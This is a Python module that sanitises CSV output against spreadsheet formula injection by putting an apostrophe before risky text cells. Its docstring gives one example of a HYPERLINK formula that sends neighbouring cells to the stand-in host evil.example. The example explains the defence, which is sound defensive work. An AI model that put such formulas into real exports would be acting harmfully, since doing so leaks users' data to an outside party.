"""CSV that a spreadsheet opens as data, never as formulas (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets run a cell that begins with =, +, -, @ (or a tab or carriage
return before one) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")` in an imported
survey id would send the neighbouring cells away when an analyst clicks it. Every CSV Sojourn writes
goes through `csv_writer`, which puts an apostrophe before such a text cell, as OWASP advises; numbers
stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number (a signed value, a percentage) is data whatever its first character.
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?%?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_safe(value: Any) -> Any:
    """Return the value as a spreadsheet should show it: text that would run as a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer's writerow/writerows, with every cell passed through spreadsheet_safe."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **options)
